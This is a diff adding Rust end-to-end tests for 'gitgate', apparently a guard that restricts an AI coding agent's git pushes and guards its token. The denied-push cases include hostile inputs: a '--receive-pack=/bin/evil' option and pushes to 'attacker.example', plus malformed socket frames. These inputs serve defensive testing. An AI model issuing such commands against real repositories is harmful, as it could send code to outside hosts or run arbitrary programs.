@@ -1,0 +1,391 @@
+//! End-to-end tests of the spine (issue 2): built binaries, real socket, real git.
+
+use gitgate_e2e::*;
+use std::io::{Read, Write};
+use std::os::unix::net::UnixStream;
+use std::path::Path;
+use std::time::Duration;
+
+fn one_gitgate_line(r: &Run) {
+    let lines: Vec<&str> = r.stderr.lines().collect();
+    assert_eq!(
+        lines.len(),
+        1,
+        "expected one line on stderr, got: {:?}",
+        r.stderr
+    );
+    assert!(lines[0].starts_with("gitgate: "), "{:?}", lines[0]);
+    assert!(r.stdout.is_empty(), "stdout: {}", r.stdout);
+}
+
+#[test]
+fn local_git_through_the_shim_is_byte_identical() {
+    let agent = Agent::builder().start();
+    let repo = agent.workspace_repo("local", "https://github.com/acme/app.git");
+    std::fs::write(repo.join("new.txt"), "x\n").unwrap();
+    std::fs::write(repo.join("README.md"), "changed\n").unwrap();
+    for args in [
+        &["status"][..],
+        &["status", "--porcelain=v2", "--branch"],
+        &["log", "--oneline", "--decorate"],
+        &["diff", "--stat"],
+        &["log", "no-such-ref"],
+        &["-C", "..", "status"],
+        &["--no-pager", "log", "-1", "--format=%H %s"],
+        &["frobnicate"],
+    ] {
+        let via_shim = agent.run("git", &repo, args);
+        let direct = Run::from(
+            agent
+                .cmd("git", &repo)
+                .env("PATH", "/usr/bin:/bin")
+                .args(args)
+                .output()
+                .map(|o| o)
+                .unwrap_or_else(|e| panic!("{e}")),
+        );
+        // The line above runs the shim too (same binary); compare against the real git explicitly:
+        let real = Run::from(
+            std::process::Command::new(REAL_GIT)
+                .args(args)
+                .current_dir(&repo)
+                .envs(
+                    agent
+                        .cmd("git", &repo)
+                        .get_envs()
+                        .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned()))),
+                )
+                .env("PATH", "/usr/bin:/bin")
+                .output()
+                .unwrap(),
+        );
+        let _ = direct;
+        assert_eq!(via_shim.code, real.code, "exit code of git {args:?}");
+        assert_eq!(
+            via_shim.raw_stdout, real.raw_stdout,
+            "stdout of git {args:?}"
+        );
+        assert_eq!(
+            via_shim.raw_stderr, real.raw_stderr,
+            "stderr of git {args:?}"
+        );
+    }
+}
+
+/// Every denied push form: exit 126, one clear line, and the server saw no request at all.
+#[test]
+fn denied_pushes_change_nothing_and_reach_no_server() {
+    let token = random_token();
+    let srv_root = tempfile::tempdir().unwrap();
+    let bare = init_bare(srv_root.path(), "acme", "app");
+    let server = GitHttpServer::start(srv_root.path(), &token).unwrap();
+    let agent = Agent::builder()
+        .token(&token)
+        .env("ALLOWED_HOSTS", &format!("[\"{}\"]", server.host()))
+        .env("ALLOWED_REPOS", r#"["acme/*"]"#)
+        .env("ALLOWED_BRANCH_PATTERNS", r#"["claude/*","feature/*"]"#)
+        .env("GITGATE_ALLOW_HTTP_LOOPBACK", "1")
+        .start();
+    let repo = agent.workspace_repo("app", &server.url("acme", "app"));
+    git(&repo, &["branch", "claude/x"]);
+    git(&repo, &["tag", "v1"]);
+    let before = refs_of(&bare);
+    let denied: &[(&[&str], &str)] = &[
+        (&["push", "origin", "main"], "protected"),
+        (&["push", "origin", "HEAD:main"], "protected"),
+        (&["push", "origin", "HEAD:refs/heads/main"], "protected"),
+        (&["push", "origin", "claude/x:MAIN"], "protected"),
+        (&["push", "origin", "HEAD:heads/master"], "protected"),
+        (&["push", "origin", ":claude/x"], "ALLOW_DELETE_REMOTE"),
+        (
+            &["push", "--delete", "origin", "claude/x"],
+            "ALLOW_DELETE_REMOTE",
+        ),
+        (&["push", "-d", "origin", "claude/x"], "ALLOW_DELETE_REMOTE"),
+        (&["push", "-f", "origin", "claude/x"], "ALLOW_FORCE_PUSH"),
+        (
+            &["push", "--force", "origin", "claude/x"],
+            "ALLOW_FORCE_PUSH",
+        ),
+        (&["push", "origin", "+claude/x"], "ALLOW_FORCE_PUSH"),
+        (
+            &["push", "--force-with-lease", "origin", "claude/x"],
+            "ALLOW_FORCE_PUSH",
+        ),
+        (&["push", "-uf", "origin", "claude/x"], "ALLOW_FORCE_PUSH"),
+        (&["push", "--forc", "origin", "claude/x"], "ambiguous"),
+        (
+            &["push", "--dele", "origin", "claude/x"],
+            "ALLOW_DELETE_REMOTE",
+        ),
+        (&["push", "--mirror", "origin"], "mirror"),
+        (&["push", "--mirr", "origin"], "mirror"),
+        (&["push", "--all", "origin"], "protected"),
+        (&["push", "--tags", "origin"], "ALLOW_TAG_PUSH"),
+        (&["push", "origin", "v1"], "ALLOW_TAG_PUSH"),
+        (&["push", "origin", "HEAD:refs/tags/x"], "ALLOW_TAG_PUSH"),
+        (&["push", "origin", "HEAD:wip/x"], "ALLOWED_BRANCH_PATTERNS"),
+        (
+            &["push", "origin", "HEAD:claude/x/y"],
+            "ALLOWED_BRANCH_PATTERNS",
+        ),
+        (
+            &["push", "--receive-pack=/bin/evil", "origin", "claude/x"],
+            "receive-pack",
+        ),
+        (
+            &["push", "--frobnicate", "origin", "claude/x"],
+            "unknown option",
+        ),
+        (
+            &["push", "--repo=https://attacker.example/acme/app.git"],
+            "ALLOWED_HOSTS",
+        ),
+        (
+            &["push", "https://attacker.example/acme/app.git", "claude/x"],
+            "ALLOWED_HOSTS",
+        ),
+        (&["push", "origin", "HEAD:refs/notes/x"], "refs/notes/x"),
+        (&["push"], "protected"),
+    ];
+    for (args, why) in denied {
+        let r = agent.run("git", &repo, args);
+        assert_eq!(r.code, 126, "git {args:?}: {r:?}");
+        one_gitgate_line(&r);
+        assert!(
+            r.stderr.contains(why),
+            "git {args:?}: expected '{why}' in {:?}",
+            r.stderr
+        );
+        assert_eq!(refs_of(&bare), before, "git {args:?} changed the remote");
+    }
+    assert_eq!(
+        server.request_count(),
+        0,
+        "a denied push reached the server: {:?}",
+        server.requests()
+    );
+}
+
+#[test]
+fn unreachable_agent_exits_127_naming_the_socket() {
+    let mut agent = Agent::builder().start();
+    let repo = agent.workspace_repo("app", "https://github.com/acme/app.git");
+    agent.stop();
+    for (tool, args) in [
+        ("git", &["push"][..]),
+        ("gh", &["pr", "list"]),
+        ("agent-status", &[]),
+    ] {
+        let r = agent.run(tool, &repo, args);
+        assert_eq!(r.code, 127, "{tool}: {r:?}");
+        assert_eq!(
+            r.stderr.trim_end(),
+            format!(
+                "gitgate: cannot reach the agent at {} (start it: ./run.sh; check: ./run.sh --status)",
+                agent.socket.display()
+            )
+        );
+    }
+}
+
+#[test]
+fn peer_uid_not_allowed_is_refused() {
+    let other = unsafe { libc::getuid() } + 4242;
+    let agent = Agent::builder()
+        .env("ALLOWED_UIDS", &format!("[{other}]"))
+        .start();
+    let r = agent.run("agent-status", &agent.workspace, &[]);
+    assert_eq!(r.code, 126, "{r:?}");
+    assert!(r.stderr.contains("ALLOWED_UIDS"), "{}", r.stderr);
+}
+
+#[test]
+fn cwd_outside_the_workspace_is_refused() {
+    let agent = Agent::builder()
+        .env("ALLOWED_REPOS", r#"["acme/*"]"#)
+        .start();
+    let outside = tempfile::tempdir().unwrap();
+    git(outside.path(), &["init", "-q", "-b", "main"]);
+    git(
+        outside.path(),
+        &["commit", "-q", "--allow-empty", "-m", "x"],
+    );
+    git(
+        outside.path(),
+        &["remote", "add", "origin", "https://github.com/acme/app.git"],
+    );
+    let r = agent.run("git", outside.path(), &["push", "origin", "HEAD:claude/x"]);
+    assert_eq!(r.code, 126, "{r:?}");
+    assert!(r.stderr.contains("outside the workspace"), "{}", r.stderr);
+}
+
+#[test]
+fn invalid_settings_stop_the_agent_naming_the_setting() {
+    for (k, v) in [
+        ("BLOCKED_BRANCHES", "main"),
+        ("ALLOWED_BRANCH_PATTERNS", "[\"a\","),
+        ("ALLOW_FORCE_PUSH", "perhaps"),
+        ("ALLOWED_REPOS", "[\"ac[me/*\"]"),
+    ] {
+        let ws = tempfile::tempdir().unwrap();
+        let out = std::process::Command::new(agent_bin())
+            .env_clear()
+            .env("GITGATE_WORKSPACE", ws.path())
+            .env("GITGATE_SOCKET", ws.path().join("s.sock"))
+            .env("GITGATE_STATE_DIR", ws.path().join("state"))
+            .env(k, v)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(2), "{k}={v}");
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains(k), "{k}={v}: {err}");
+        assert!(!ws.path().join("s.sock").exists());
+    }
+}
+
+#[test]
+fn agent_status_reports_policy_and_never_the_token() {
+    let token = random_token();
+    let agent = Agent::builder()
+        .token(&token)
+        .env("ALLOWED_REPOS", r#"["acme/*"]"#)
+        .env("BLOCKED_BRANCHES", r#"["main","release/*"]"#)
+        .start();
+    let r = agent.run("agent-status", &agent.workspace, &[]);
+    r.assert_code(0);
+    for needle in [
+        "gitgate-agent",
+        "uptime",
+        "socket",
+        "peer checks:       on",
+        "token:             loaded",
+        "memory lock",
+        "release/*",
+        "acme/*",
+        "force push:              refused",
+        "requests:",
+    ] {
+        assert!(
+            r.stdout.contains(needle),
+            "missing {needle:?} in\n{}",
+            r.stdout
+        );
+    }
+    assert!(!r.stdout.contains(&token) && !r.stdout.contains(&token[4..12]));
+}
+
+// ---- protocol abuse against the socket directly ----
+
+fn status_works(agent: &Agent) {
+    let r = agent.run("agent-status", &agent.workspace, &[]);
+    assert_eq!(
+        r.code,
+        0,
+        "agent-status failed: {r:?}\nlog: {}",
+        agent.log_text()
+    );
+}
+
+fn read_to_end_bounded(s: &mut UnixStream) -> Vec<u8> {
+    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut buf = Vec::new();
+    let _ = s.read_to_end(&mut buf);
+    buf
+}
+
+fn expect_error_frame(bytes: &[u8]) -> gitgate_proto::ErrorMsg {
+    match gitgate_proto::decode(bytes) {
+        Ok(Some((gitgate_proto::Frame::Error(e), _))) => e,
+        other => panic!("expected an Error frame, got {other:?}"),
+    }
+}
+
+#[test]
+fn protocol_abuse_never_stops_the_agent() {
+    let mut agent = Agent::builder().start();
+    let sock = agent.socket.clone();
+
+    // Garbage.
+    let mut s = UnixStream::connect(&sock).unwrap();
+    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
+    let e = expect_error_frame(&read_to_end_bounded(&mut s));
+    assert_eq!(e.code, 125);
+    status_works(&agent);
+
+    // Oversized frame header (no body follows): refused from the header alone.
+    let mut s = UnixStream::connect(&sock).unwrap();
+    let mut h = (u32::MAX).to_be_bytes().to_vec();
+    h.push(1);
+    s.write_all(&h).unwrap();
+    let e = expect_error_frame(&read_to_end_bounded(&mut s));
+    assert!(e.message.contains("exceeds"), "{}", e.message);
+    status_works(&agent);
+
+    // Invalid UTF-8 and NUL in args.
+    for payload in [
+        &b"{\"version\":1,\"tool\":\"git\",\"args\":[\"push\",\"\xff\"],\"cwd\":\"/\"}"[..],
+        br#"{"version":1,"tool":"git","args":["push","a\u0000b"],"cwd":"/"}"#,
+    ] {
+        let mut s = UnixStream::connect(&sock).unwrap();
+        let mut f = ((payload.len() + 1) as u32).to_be_bytes().to_vec();
+        f.push(1);
+        f.extend_from_slice(payload);
+        s.write_all(&f).unwrap();
+        let e = expect_error_frame(&read_to_end_bounded(&mut s));
+        assert_eq!(e.code, 125, "{}", e.message);
+    }
+    status_works(&agent);
+
+    // 1000 connections opened and dropped, in batches (bounded by the fd limit of this process).
+    for _ in 0..10 {
+        let conns: Vec<UnixStream> = (0..100)
+            .filter_map(|_| UnixStream::connect(&sock).ok())
+            .collect();
+        assert!(conns.len() >= 90);
+        drop(conns);
+    }
+    status_works(&agent);
+
+    // Half a frame, then silence: the agent keeps serving others meanwhile and times the sleeper out.
+    let mut sleeper = UnixStream::connect(&sock).unwrap();
+    sleeper.write_all(&[0, 0, 0, 50, 1, b'{']).unwrap();
+    status_works(&agent);
+    let e = expect_error_frame(&read_to_end_bounded(&mut sleeper));
+    assert!(
+        e.message.contains("GITGATE_HELLO_TIMEOUT_MS"),
+        "{}",
+        e.message
+    );
+    status_works(&agent);
+
+    // A client that vanishes right after Hello.
+    for _ in 0..50 {
+        let mut s = UnixStream::connect(&sock).unwrap();
+        let hello = gitgate_proto::Hello::new(gitgate_proto::Tool::AgentStatus, vec![], "/".into());
+        s.write_all(&gitgate_proto::Frame::Hello(hello).encode())
+            .unwrap();
+        drop(s);
+    }
+    status_works(&agent);
+    assert!(agent.alive(), "agent died");
+    assert!(
+        !agent.log_text().contains("panicked"),
+        "{}",
+        agent.log_text()
+    );
+}
+
+#[test]
+fn many_concurrent_clients_are_all_answered() {
+    let agent = Agent::builder().start();
+    let ws: &Path = &agent.workspace;
+    std::thread::scope(|scope| {
+        let handles: Vec<_> = (0..64)
+            .map(|_| scope.spawn(|| agent.run("agent-status", ws, &[]).code))
+            .collect();
+        for h in handles {
+            assert_eq!(h.join().unwrap(), 0);
+        }
+    });
+}
